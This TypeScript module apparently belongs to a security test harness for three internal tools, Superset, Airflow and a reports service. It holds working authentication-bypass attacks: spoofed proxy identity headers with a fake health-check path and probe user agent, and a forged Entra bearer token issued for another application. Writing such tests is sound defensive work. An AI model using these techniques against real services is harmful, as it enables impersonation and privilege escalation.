import { ending, type Target } from "../targets.ts";
import { ALL, type Attack, type Attempt, type Stage, signIn } from "./attack.ts";
import { OTHER_APPLICATION } from "./tokens.ts";

/** Every header in which some proxy or other tells a tool who is there. */
function identityHeaders({ target, high }: Pick<Stage, "target" | "high">): Record<string, string> {
  const person = Object.fromEntries(
    ["X-Forwarded-User", "X-Forwarded-Email", "X-Forwarded-Preferred-Username", "X-Auth-Request-User"]
      .concat(["X-Auth-Request-Email", "X-Auth-Request-Preferred-Username", "Remote-User", "X-Remote-User"])
      .map((name) => [name, high]),
  );
  const roles = Object.fromEntries(
    ["X-Forwarded-Groups", "X-Auth-Request-Groups", "X_Forwarded_Groups"].map((name) => [name, target.highRole]),
  );
  // A path that a proxy may let pass unasked.
  return {
    ...person,
    ...roles,
    "X-Forwarded-Uri": "/health",
    "X-Original-URL": "/health",
    "user-agent": "kube-probe/1.36",
  };
}

/** What the tool behind the proxy was told, in whatever header. */
const told = (text: string, role: string) =>
  new RegExp(`"x-(forwarded|auth-request)-groups":"[^"]*\\b${role}\\b`).test(text);

export const HEADERS: readonly Attack[] = [
  {
    name: "identity headers without a sign-in",
    targets: ALL,
    run: async (stage) => {
      const who = await stage.target.who(stage.visitor(), identityHeaders(stage));
      return { got: who !== undefined, how: who === undefined ? "nobody" : `${who.name}: ${who.roles.join(", ")}` };
    },
  },
  {
    name: "identity headers beside one's own session",
    targets: ALL,
    run: async (stage) => {
      const { visitor, who, answers } = await signIn(stage, {});
      if (who === undefined) throw new Error(`${stage.low} did not get in: ${ending(answers)}.`);
      const headers = identityHeaders(stage);
      const now = await stage.target.who(visitor, headers);
      const byHeader = stage.target.id === "reports" && (await proxyTold(stage, visitor, headers));
      const { highRole } = stage.target;
      return {
        got: now?.roles.includes(highRole) === true || byHeader,
        how: `roles ${now?.roles.join(", ") || "none"}`,
      };
    },
  },
  {
    name: "Entra's token for another application as a bearer",
    targets: ALL,
    run: bearer,
  },
];

async function proxyTold({ target }: Stage, visitor: ReturnType<Stage["visitor"]>, headers: Record<string, string>) {
  const { text } = await visitor.send(`https://${target.host}/api/me`, { headers });
  return told(text, target.highRole);
}

/** Paths that take a bearer token of the tool's own making. */
const ASKED: Record<Target["id"], string> = {
  superset: "/api/v1/security/users/",
  airflow: "/auth/fab/v1/users",
  reports: "/api/me",
};

async function bearer(stage: Stage): Promise<Attempt> {
  const { target, attacker, tenantId, high } = stage;
  const now = Math.floor(Date.now() / 1000);
  const token = await attacker.forger.make(
    {
      iss: `https://login.microsoftonline.com/${tenantId}/v2.0`,
      aud: OTHER_APPLICATION,
      tid: tenantId,
      // The first account of a tool's own database.
      sub: "1",
      preferred_username: high,
      email: high,
      roles: [target.highRole],
      groups: [target.highRole],
      iat: now,
      nbf: now,
      exp: now + 600,
    },
    "entra",
  );
  const answer = await stage.visitor().send(`https://${target.host}${ASKED[target.id]}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  return { got: answer.status === 200, how: `${answer.status}` };
}
